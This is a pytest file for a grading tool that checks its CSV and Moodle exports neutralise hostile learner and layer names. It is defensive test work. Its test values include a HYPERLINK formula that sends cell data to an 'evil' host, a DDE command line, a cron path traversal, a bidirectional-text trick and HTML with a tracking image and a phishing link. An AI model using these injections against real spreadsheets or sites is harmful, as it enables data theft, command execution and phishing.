"""What a mentor opens in a spreadsheet: whoever writes a formula for a name has written a text."""

from __future__ import annotations

import csv
import html
import unicodedata
from dataclasses import replace
from pathlib import Path

import pytest

from tfprep.cohorts import Cohort, Learner, LearnerResult, Result
from tfprep.grader import Record, read_submission
from tfprep.grader.ledger import Ledger
from tfprep.reports.cohort.exports import write_exports

from ..reports.test_moodle_export import WORKSHEET, with_worksheet
from .attacked_grader import Grader, assert_invalid, assert_scored
from .test_reports import Page, model_named

HOSTILE = {
    "a formula": '=HYPERLINK("http://evil/?"&A1;"click")',
    "a command": "=cmd|'/C calc'!A0",
    "a formula behind a separator": "ann;=1+1,\t@SUM(1)",
    "a formula behind a quote": '"=1+1',
    "a formula on a second line": "ann\n=1+1\r\n-1+1",
    "a wide formula": "\uff1d1+1",
    "a plus and a minus": "+1-cmd|x",
    "a path": "../../etc/cron.d/mallory",
    "turned text": "\u202e5 fo 5 DESSAP\u2066",
    "control characters": "ann\x00\x07\x1b[2J\x9b31m",
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_learner_s_id_and_name_are_text_in_every_table(
    target: Grader, models: Path, tmp_path: Path, kind: str
) -> None:
    learner = HOSTILE[kind]
    graded = target.attack_with(read_submission(models / "honest.h5", "problem2", learner))
    assert_scored(graded.card, 5)
    with Ledger.open(tmp_path / "ledger.db") as ledger:
        record = ledger.record(graded)
    assert_harmless_tables(record, learner, tmp_path / "exports")


@pytest.mark.parametrize("kind", ["a formula", "a formula behind a separator", "a formula on a second line"])
def test_what_a_model_s_layer_is_called_is_text_in_every_table(
    target: Grader, models: Path, tmp_path: Path, kind: str
) -> None:
    path = tmp_path / "mymodel.h5"
    path.write_bytes(model_named(models, HOSTILE[kind]))
    card = target.attack_with_file(path)
    assert_invalid(card, "is a Lambda: it carries program code")
    with Ledger.open(tmp_path / "ledger.db") as ledger:
        honest = ledger.record(target.attack_with(target.honest))
    assert_harmless_tables(replace(honest, card=card), "mallory", tmp_path / "exports")


def assert_harmless_tables(record: Record, learner: str, folder: Path) -> None:
    """Written where they should be, and read with any separator, no cell is run by a spreadsheet."""
    result = Result("problem2", record, (record,), points=float(record.card.score or 0))
    person = Learner(learner, learner, learner, {"Email address": learner, "ID number": learner})
    cohort = Cohort(learner, ("problem2",), (1.0,), (LearnerResult(person, (result,), 20 * result.points),))
    written = write_exports(cohort, folder).paths
    assert {path.parent for path in written} == {folder}
    tables = [path for path in written if path.suffix == ".csv"]
    assert len(tables) >= 3
    for path in tables:
        text = path.read_text(encoding="utf-8-sig")
        assert not [
            each for each in text if unicodedata.category(each) in ("Cc", "Cf") and each not in "\r\n"
        ]
        for separator in ",;\t":
            for row in csv.reader(text.splitlines(), delimiter=separator):
                assert not [cell for cell in row if would_run(cell)], row


def would_run(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula. A negative number is one that does nothing."""
    begins = unicodedata.normalize("NFKC", cell.strip().lstrip('"').strip())[:1]
    return begins in ("=", "+", "-", "@") and bool(begins) and not is_number(cell)


def is_number(cell: str) -> bool:
    """Whether a cell holds nothing but a number."""
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_what_moodle_takes_back_as_html_is_text(tmp_path: Path) -> None:
    """A worksheet's comment is HTML to Moodle: a picture in it would tell its author who looks, and when."""
    cohort = with_worksheet(tmp_path, WORKSHEET.replace("=well done", ""))
    one = cohort.learners[0]
    hostile = "Layer '<img src=//evil/x.png>' & <a href=//evil>confirm your grade</a> is a Lambda."
    results = []
    for each in one.results:
        assert each.counted is not None
        card = replace(each.counted.card, reason=hostile)
        results.append(replace(each, counted=replace(each.counted, card=card)))
    cohort = replace(cohort, learners=(replace(one, results=tuple(results)), *cohort.learners[1:]))
    write_exports(cohort, tmp_path / "out", "2")
    mallory, grace = csv.DictReader(
        (tmp_path / "out" / "moodle-worksheet.csv").read_text("utf-8").splitlines()
    )
    assert not Page(mallory["Feedback comments"]).elements
    assert html.unescape(mallory["Feedback comments"]).startswith(hostile)
    assert "Handed in late: 20% less." in grace["Feedback comments"]
